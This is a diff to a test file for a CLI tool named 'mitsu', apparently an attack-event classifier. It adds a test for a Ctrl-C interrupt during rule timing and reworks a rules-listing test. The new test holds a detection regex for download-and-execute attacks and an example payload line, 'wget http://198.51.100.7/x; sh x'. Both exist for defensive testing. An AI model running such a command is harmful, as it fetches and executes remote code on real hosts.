@@ -106,6 +106,36 @@ describe('Ctrl-C during mitsu reclassify on a terminal', () => {
   }, 90_000);
 });
 
+describe('Ctrl-C while reclassify times the rules', () => {
+  it('says no stored event was changed and exits 130', async () => {
+    const rules = join(dir, 'slow-rules');
+    mkdirSync(rules);
+    // Many seconds of timing on hostile payloads (it is then refused): the signal lands there.
+    const slow = '(wget|curl|tftp)[^\\n]{0,1000}(http|ftp)[^\\n]{0,1000}(chmod|sh)';
+    writeFileSync(join(rules, 'slow.yaml'), `- id: local-slow
+  name: Slow (test)
+  description: {en: Slow., ja: 遅い。}
+  intent: scan
+  match:
+    any: [{in: payload, regex: '${slow}'}, {in: text, regex: '${slow}'},
+      {in: commands, regex: '${slow}'}, {in: payload, regex: '${slow}x'},
+      {in: text, regex: '${slow}x'}, {in: commands, regex: '${slow}x'}]
+  examples: [{port: 23, payload: "wget http://198.51.100.7/x; sh x"}]
+`);
+    const db = join(dir, 'early.db');
+    await SqliteStore.open(db).close();
+    const proc = spawn(process.execPath, [CLI, 'reclassify', '--db', db, '--rules', rules],
+      { stdio: ['ignore', 'ignore', 'pipe'] });
+    let stderr = '';
+    proc.stderr.on('data', (chunk: Buffer) => { stderr += chunk.toString('utf8'); });
+    const exited = new Promise<number | null>((resolve) => proc.on('close', resolve));
+    setTimeout(() => proc.kill('SIGINT'), 2_000);
+    expect(await exited, stderr).toBe(130);
+    expect(stderr).toBe('mitsu: reclassify interrupted while loading the rules; ' +
+      'no stored event was changed\n');
+  }, 60_000);
+});
+
 describe('rule folders that cannot load', () => {
   /** A folder holding `file` with `content`; the folder alone when `file` is empty. */
   function folder(name: string, file: string, content: string | Buffer): string {
@@ -147,12 +177,15 @@ describe('mitsu rules list on a narrow screen', () => {
     expect(lines.some((l) => l.endsWith('\u2026'))).toBe(true);
   }
 
-  it('cuts each line to 100 columns when stdout is a pipe, ending the cut with an ellipsis',
-    () => {
-      const out = runCli(['rules', 'list']);
-      expect(out.code).toBe(0);
-      expectFitted(out.stdout.trimEnd().split('\n'), 100);
-    });
+  it('prints whole lines with every CVE column when stdout is a pipe, for grep', () => {
+    const out = runCli(['rules', 'list']);
+    expect(out.code).toBe(0);
+    const lines = out.stdout.trimEnd().split('\n');
+    expect(lines.map((l) => l.split(/\s+/)[0])).toStrictEqual(ids());
+    expect(lines.some((l) => l.includes('\u2026'))).toBe(false);
+    const log4shell = lines.filter((l) => l.includes('CVE-2021-44228'));
+    expect(log4shell.length).toBeGreaterThan(0);
+  });
 
   it.skipIf(!HAS_SCRIPT)('cuts each line to the width of the terminal (skipped without ' +
     'util-linux script)', () => {
